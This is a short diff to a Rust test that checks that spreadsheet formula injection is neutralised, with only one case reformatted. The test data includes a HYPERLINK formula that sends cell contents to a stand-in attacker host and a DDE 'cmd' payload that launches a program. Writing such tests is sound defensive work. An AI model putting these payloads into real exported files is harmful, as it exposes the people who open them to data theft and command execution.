@@ -53,7 +53,10 @@ mod tests {
     #[test]
     fn formulas_are_neutralised_and_numbers_are_not() {
         let cases = [
-            ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")"),
+            (
+                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
+                "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
+            ),
             ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
             ("+1+1", "'+1+1"),
             ("@ ME", "'@ ME"),
